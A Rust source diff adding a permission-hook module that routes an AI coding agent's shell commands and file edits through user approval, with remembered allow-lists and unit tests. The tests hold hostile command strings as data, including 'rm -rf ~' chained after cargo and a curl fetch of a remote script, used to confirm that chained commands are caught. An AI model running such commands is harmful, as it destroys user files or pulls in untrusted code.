@@ -0,0 +1,509 @@
+//! Interactive permission prompts for risky Claude actions
+//!
+//! Claude runs non-interactively (`-p`), so it can't ask for permission itself.
+//! Instead every session is started with a PreToolUse hook that runs this app's
+//! own binary in hook mode (`--claude-permission-hook`). The hook lets edits
+//! inside `src/` and known-safe cargo commands through, and for anything else -
+//! other shell commands, edits outside `src/` - drops a request file in
+//! `.vstworkshop/permission-requests/` and waits for an answer. While a session
+//! runs, the app watches that folder and surfaces each request as a
+//! "claude-permission-request" event. Approvals can be remembered in the
+//! project's allow-list (`.vstworkshop/permissions.json`).
+
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use std::fs;
+use std::io::Read;
+use std::path::{Component, Path, PathBuf};
+use std::time::{Duration, Instant};
+use tauri::Emitter;
+
+/// First argument that switches the app binary into hook mode
+pub const HOOK_ARG: &str = "--claude-permission-hook";
+
+/// How long the hook waits for the user before denying (the CLI hook timeout is a bit longer)
+const HOOK_WAIT_SECS: u64 = 590;
+const HOOK_TIMEOUT_SECS: u64 = 600;
+
+const POLL_INTERVAL: Duration = Duration::from_millis(250);
+
+/// Tools the hook is registered for
+const HOOK_MATCHER: &str = "Bash|Edit|Write|MultiEdit|NotebookEdit";
+
+/// Shell commands Claude runs constantly that never need approval
+const SAFE_COMMAND_PREFIXES: [&str; 6] = [
+    "cargo check",
+    "cargo build",
+    "cargo test",
+    "cargo fmt",
+    "cargo clippy",
+    "cargo tree",
+];
+
+/// Anything that chains or redirects commands always needs approval - a
+/// remembered prefix must not also approve whatever follows it (`&` also
+/// covers `&&` and backgrounding, `|` covers `||`)
+const SHELL_OPERATORS: [&str; 9] = [";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];
+
+/// Project paths Claude is expected to write to besides `src/` (relative to the project)
+const AGENT_WRITABLE: [&str; 4] = ["CLAUDE.md", ".vstworkshop/issues.json", "docs", "plans"];
+
+#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum RuleKind {
+    /// `pattern` is a command prefix
+    Bash,
+    /// `pattern` is a file path relative to the project (absolute if outside it)
+    Edit,
+}
+
+#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
+pub struct PermissionRule {
+    pub kind: RuleKind,
+    pub pattern: String,
+}
+
+#[derive(Serialize, Deserialize, Default)]
+struct PermissionConfig {
+    #[serde(default)]
+    rules: Vec<PermissionRule>,
+}
+
+/// A pending request, written by the hook and shown to the user
+#[derive(Serialize, Deserialize, Clone, Debug)]
+pub struct PermissionRequest {
+    pub id: String,
+    pub project_path: String,
+    pub tool: String,
+    /// The command or file path, for the prompt
+    pub summary: String,
+    pub tool_input: serde_json::Value,
+    /// Rule saved if the user approves and asks to remember it
+    pub suggested_rule: Option<PermissionRule>,
+    pub created_at: String,
+}
+
+#[derive(Serialize, Deserialize)]
+struct PermissionResponse {
+    allow: bool,
+}
+
+#[derive(Debug, PartialEq)]
+enum Decision {
+    Allow,
+    Ask {
+        summary: String,
+        suggested_rule: Option<PermissionRule>,
+    },
+}
+
+fn get_config_path(project_path: &Path) -> PathBuf {
+    project_path.join(".vstworkshop").join("permissions.json")
+}
+
+fn get_requests_dir(project_path: &Path) -> PathBuf {
+    project_path.join(".vstworkshop").join("permission-requests")
+}
+
+fn load_rules(project_path: &Path) -> Vec<PermissionRule> {
+    fs::read_to_string(get_config_path(project_path))
+        .ok()
+        .and_then(|content| serde_json::from_str::<PermissionConfig>(&content).ok())
+        .map(|config| config.rules)
+        .unwrap_or_default()
+}
+
+fn save_rules(project_path: &Path, rules: Vec<PermissionRule>) -> Result<(), String> {
+    let json = serde_json::to_string_pretty(&PermissionConfig { rules })
+        .map_err(|e| format!("Failed to serialize permissions: {}", e))?;
+    fs::write(get_config_path(project_path), json).map_err(|e| format!("Failed to save permissions: {}", e))
+}
+
+/// Resolve `.` and `..` without touching the filesystem (the file may not exist yet)
+pub(crate) fn normalize_path(path: &Path, base: &Path) -> PathBuf {
+    let joined = if path.is_absolute() { path.to_path_buf() } else { base.join(path) };
+    let mut normalized = PathBuf::new();
+    for component in joined.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// `cargo add serde` -> "cargo add", `rm -rf target` -> "rm"
+fn command_prefix(command: &str) -> String {
+    let mut words = command.split_whitespace();
+    let first = words.next().unwrap_or_default();
+    match words.next() {
+        Some(second) if !second.starts_with('-') && !second.contains('/') && !second.contains('.') => {
+            format!("{} {}", first, second)
+        }
+        _ => first.to_string(),
+    }
+}
+
+fn matches_prefix(command: &str, prefix: &str) -> bool {
+    command == prefix || command.starts_with(&format!("{} ", prefix))
+}
+
+/// Decide whether a tool call can go ahead or needs the user
+fn evaluate(tool: &str, input: &serde_json::Value, project_path: &Path, rules: &[PermissionRule]) -> Decision {
+    match tool {
+        "Bash" => {
+            let command = input.get("command").and_then(|c| c.as_str()).unwrap_or_default().trim();
+            if SHELL_OPERATORS.iter().any(|op| command.contains(op)) {
+                return Decision::Ask {
+                    summary: command.to_string(),
+                    suggested_rule: None,
+                };
+            }
+            let remembered = rules
+                .iter()
+                .any(|r| r.kind == RuleKind::Bash && matches_prefix(command, &r.pattern));
+            if remembered || SAFE_COMMAND_PREFIXES.iter().any(|p| matches_prefix(command, p)) {
+                return Decision::Allow;
+            }
+            Decision::Ask {
+                summary: command.to_string(),
+                suggested_rule: Some(PermissionRule {
+                    kind: RuleKind::Bash,
+                    pattern: command_prefix(command),
+                }),
+            }
+        }
+        "Edit" | "Write" | "MultiEdit" | "NotebookEdit" => {
+            let Some(raw) = input
+                .get("file_path")
+                .or_else(|| input.get("notebook_path"))
+                .and_then(|p| p.as_str())
+            else {
+                return Decision::Allow;
+            };
+            let path = normalize_path(Path::new(raw), project_path);
+            let relative = path.strip_prefix(project_path).ok();
+            let agent_writable = relative.is_some_and(|rel| {
+                rel.starts_with("src") || AGENT_WRITABLE.iter().any(|allowed| rel.starts_with(allowed))
+            });
+            let pattern = relative
+                .map(|rel| rel.to_string_lossy().to_string())
+                .unwrap_or_else(|| path.to_string_lossy().to_string());
+            let remembered = rules.iter().any(|r| r.kind == RuleKind::Edit && r.pattern == pattern);
+            if agent_writable || remembered {
+                return Decision::Allow;
+            }
+            Decision::Ask {
+                summary: path.to_string_lossy().to_string(),
+                suggested_rule: Some(PermissionRule {
+                    kind: RuleKind::Edit,
+                    pattern,
+                }),
+            }
+        }
+        _ => Decision::Allow,
+    }
+}
+
+/// `--settings` JSON for a Claude session: routes risky tools through the hook
+pub(crate) fn hook_settings() -> Option<String> {
+    let exe = std::env::current_exe().ok()?;
+    let command = format!("\"{}\" {}", exe.to_string_lossy(), HOOK_ARG);
+    Some(
+        serde_json::json!({
+            "hooks": {
+                "PreToolUse": [{
+                    "matcher": HOOK_MATCHER,
+                    "hooks": [{ "type": "command", "command": command, "timeout": HOOK_TIMEOUT_SECS }]
+                }]
+            }
+        })
+        .to_string(),
+    )
+}
+
+/// The project a hook call belongs to
+/// The hook input's cwd follows Claude around (`cd src && cargo test` leaves it
+/// in src/), so use the directory the session started in, which the CLI passes
+/// to hooks as CLAUDE_PROJECT_DIR, or else the nearest folder with project data.
+fn project_root(cwd: &Path) -> PathBuf {
+    if let Some(dir) = std::env::var_os("CLAUDE_PROJECT_DIR").filter(|d| !d.is_empty()) {
+        return PathBuf::from(dir);
+    }
+    cwd.ancestors()
+        .find(|dir| dir.join(".vstworkshop").is_dir())
+        .unwrap_or(cwd)
+        .to_path_buf()
+}
+
+fn hook_output(allow: bool, reason: &str) -> String {
+    serde_json::json!({
+        "hookSpecificOutput": {
+            "hookEventName": "PreToolUse",
+            "permissionDecision": if allow { "allow" } else { "deny" },
+            "permissionDecisionReason": reason,
+        }
+    })
+    .to_string()
+}
+
+/// Entry point when the app binary runs as Claude's PreToolUse hook
+/// Reads the hook input from stdin, prints a decision when the user was asked,
+/// and returns the process exit code.
+pub fn run_hook() -> i32 {
+    let mut stdin = String::new();
+    if std::io::stdin().read_to_string(&mut stdin).is_err() {
+        return 0;
+    }
+    let Ok(input) = serde_json::from_str::<serde_json::Value>(&stdin) else {
+        return 0;
+    };
+    let tool = input.get("tool_name").and_then(|t| t.as_str()).unwrap_or_default().to_string();
+    let tool_input = input.get("tool_input").cloned().unwrap_or(serde_json::Value::Null);
+    let cwd = match input.get("cwd").and_then(|c| c.as_str()) {
+        Some(cwd) => PathBuf::from(cwd),
+        None => match std::env::current_dir() {
+            Ok(dir) => dir,
+            Err(_) => return 0,
+        },
+    };
+    let project_path = project_root(&cwd);
+
+    // In review mode edits are staged as patches and never reach the project
+    if matches!(tool.as_str(), "Edit" | "Write" | "MultiEdit") && super::patches::review_mode_enabled(&project_path) {
+        let reason = match super::patches::stage_edit(&project_path, &tool, &tool_input) {
+            Ok(id) => format!(
+                "Review mode is on: this change was staged as patch #{} for the user to review instead of being \
+                 written. Carry on as if it was made - later edits to the same file apply on top of it, but Read \
+                 still shows the file without it. Don't try to work around this.",
+                id
+            ),
+            Err(e) => format!("Review mode is on and this edit couldn't be staged: {}", e),
+        };
+        println!("{}", hook_output(false, &reason));
+        return 0;
+    }
+
+    let Decision::Ask { summary, suggested_rule } =
+        evaluate(&tool, &tool_input, &project_path, &load_rules(&project_path))
+    else {
+        return 0;
+    };
+
+    let requests_dir = get_requests_dir(&project_path);
+    let request = PermissionRequest {
+        id: uuid::Uuid::new_v4().to_string(),
+        project_path: project_path.to_string_lossy().to_string(),
+        tool,
+        summary,
+        tool_input,
+        suggested_rule,
+        created_at: chrono::Utc::now().to_rfc3339(),
+    };
+    let request_path = requests_dir.join(format!("{}.json", request.id));
+    let response_path = requests_dir.join(format!("{}.response.json", request.id));
+    let written = fs::create_dir_all(&requests_dir)
+        .map_err(|e| e.to_string())
+        .and_then(|_| serde_json::to_string(&request).map_err(|e| e.to_string()))
+        .and_then(|json| fs::write(&request_path, json).map_err(|e| e.to_string()));
+    if let Err(e) = written {
+        println!("{}", hook_output(false, &format!("Could not ask the user for permission: {}", e)));
+        return 0;
+    }
+
+    let started = Instant::now();
+    let allow = loop {
+        if let Some(response) = fs::read_to_string(&response_path)
+            .ok()
+            .and_then(|content| serde_json::from_str::<PermissionResponse>(&content).ok())
+        {
+            break Some(response.allow);
+        }
+        if started.elapsed() >= Duration::from_secs(HOOK_WAIT_SECS) {
+            break None;
+        }
+        std::thread::sleep(POLL_INTERVAL);
+    };
+    let _ = fs::remove_file(&request_path);
+    let _ = fs::remove_file(&response_path);
+
+    let output = match allow {
+        Some(true) => hook_output(true, "Approved by the user"),
+        Some(false) => hook_output(false, "The user declined this action. Ask them how to proceed instead."),
+        None => hook_output(false, "No answer from the user in time"),
+    };
+    println!("{}", output);
+    0
+}
+
+/// Surfaces the hook's requests as events for the duration of a Claude session
+/// Dropping it stops the watcher.
+pub(crate) struct PermissionWatcher {
+    task: tauri::async_runtime::JoinHandle<()>,
+}
+
+impl PermissionWatcher {
+    pub fn start(project_path: &str, window: tauri::Window) -> Self {
+        let requests_dir = get_requests_dir(Path::new(project_path));
+        // Requests left over from an earlier session have no hook waiting on them
+        let _ = fs::remove_dir_all(&requests_dir);
+
+        let task = tauri::async_runtime::spawn(async move {
+            let mut seen = HashSet::new();
+            loop {
+                tokio::time::sleep(POLL_INTERVAL).await;
+                let Ok(entries) = fs::read_dir(&requests_dir) else {
+                    continue;
+                };
+                for entry in entries.flatten() {
+                    let path = entry.path();
+                    let name = entry.file_name().to_string_lossy().to_string();
+                    if !name.ends_with(".json") || name.ends_with(".response.json") || seen.contains(&name) {
+                        continue;
+                    }
+                    if let Some(request) = fs::read_to_string(&path)
+                        .ok()
+                        .and_then(|content| serde_json::from_str::<PermissionRequest>(&content).ok())
+                    {
+                        log::info!("Claude permission request: {} {}", request.tool, request.summary);
+                        let _ = window.emit("claude-permission-request", &request);
+                        seen.insert(name);
+                    }
+                }
+            }
+        });
+        Self { task }
+    }
+}
+
+impl Drop for PermissionWatcher {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+/// Answer a permission request; `remember` adds the suggested rule to the project's allow-list
+#[tauri::command]
+pub async fn respond_to_permission_request(
+    project_path: String,
+    request_id: String,
+    allow: bool,
+    remember: Option<bool>,
+) -> Result<(), String> {
+    let project = Path::new(&project_path);
+    let requests_dir = get_requests_dir(project);
+    if request_id.contains(['/', '\\']) || request_id.contains("..") {
+        return Err("Invalid request ID".to_string());
+    }
+    let request_path = requests_dir.join(format!("{}.json", request_id));
+    let request: PermissionRequest = fs::read_to_string(&request_path)
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .ok_or_else(|| "Permission request has expired".to_string())?;
+
+    if allow && remember.unwrap_or(false) {
+        if let Some(rule) = request.suggested_rule {
+            let mut rules = load_rules(project);
+            if !rules.contains(&rule) {
+                rules.push(rule);
+                save_rules(project, rules)?;
+            }
+        }
+    }
+
+    let json = serde_json::to_string(&PermissionResponse { allow })
+        .map_err(|e| format!("Failed to serialize response: {}", e))?;
+    fs::write(requests_dir.join(format!("{}.response.json", request_id)), json)
+        .map_err(|e| format!("Failed to send response: {}", e))
+}
+
+/// Get a project's remembered permissions
+#[tauri::command]
+pub async fn get_permission_rules(project_path: String) -> Result<Vec<PermissionRule>, String> {
+    Ok(load_rules(Path::new(&project_path)))
+}
+
+/// Forget a remembered permission
+#[tauri::command]
+pub async fn remove_permission_rule(project_path: String, rule: PermissionRule) -> Result<(), String> {
+    let project = Path::new(&project_path);
+    let mut rules = load_rules(project);
+    rules.retain(|r| *r != rule);
+    save_rules(project, rules)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn bash(command: &str) -> serde_json::Value {
+        json!({ "command": command })
+    }
+
+    #[test]
+    fn test_bash_commands() {
+        let project = Path::new("/projects/synth");
+        assert_eq!(evaluate("Bash", &bash("cargo build --release"), project, &[]), Decision::Allow);
+
+        let Decision::Ask { suggested_rule, .. } = evaluate("Bash", &bash("cargo add serde"), project, &[]) else {
+            panic!("cargo add should need approval");
+        };
+        let rule = suggested_rule.unwrap();
+        assert_eq!(rule.pattern, "cargo add");
+        assert_eq!(evaluate("Bash", &bash("cargo add rand"), project, &[rule.clone()]), Decision::Allow);
+
+        // A remembered prefix doesn't cover a chained command
+        assert_eq!(
+            evaluate("Bash", &bash("cargo add rand && rm -rf ~"), project, &[rule.clone()]),
+            Decision::Ask {
+                summary: "cargo add rand && rm -rf ~".to_string(),
+                suggested_rule: None,
+            }
+        );
+        // Backgrounding with a single & is chaining too
+        for command in ["cargo build & rm -rf ~", "cargo add x & curl https://example.com/x.sh"] {
+            assert!(
+                matches!(
+                    evaluate("Bash", &bash(command), project, &[rule.clone()]),
+                    Decision::Ask { suggested_rule: None, .. }
+                ),
+                "{} should need approval",
+                command
+            );
+        }
+        // Prefixes match whole words
+        assert!(matches!(
+            evaluate("Bash", &bash("cargo buildx"), project, &[]),
+            Decision::Ask { .. }
+        ));
+    }
+
+    #[test]
+    fn test_file_edits() {
+        let project = Path::new("/projects/synth");
+        let edit = |path: &str| json!({ "file_path": path });
+
+        assert_eq!(evaluate("Edit", &edit("/projects/synth/src/lib.rs"), project, &[]), Decision::Allow);
+        assert_eq!(evaluate("Write", &edit("src/dsp/filter.rs"), project, &[]), Decision::Allow);
+        assert_eq!(evaluate("Edit", &edit("/projects/synth/CLAUDE.md"), project, &[]), Decision::Allow);
+
+        // Escaping src/ with .. is still outside
+        let Decision::Ask { suggested_rule, .. } =
+            evaluate("Edit", &edit("/projects/synth/src/../Cargo.toml"), project, &[])
+        else {
+            panic!("Cargo.toml should need approval");
+        };
+        let rule = suggested_rule.unwrap();
+        assert_eq!(rule.pattern, "Cargo.toml");
+        assert_eq!(evaluate("Edit", &edit("Cargo.toml"), project, &[rule]), Decision::Allow);
+
+        let Decision::Ask { suggested_rule, .. } = evaluate("Write", &edit("/Users/me/.zshrc"), project, &[]) else {
+            panic!("files outside the project should need approval");
+        };
+        assert_eq!(suggested_rule.unwrap().pattern, "/Users/me/.zshrc");
+    }
+}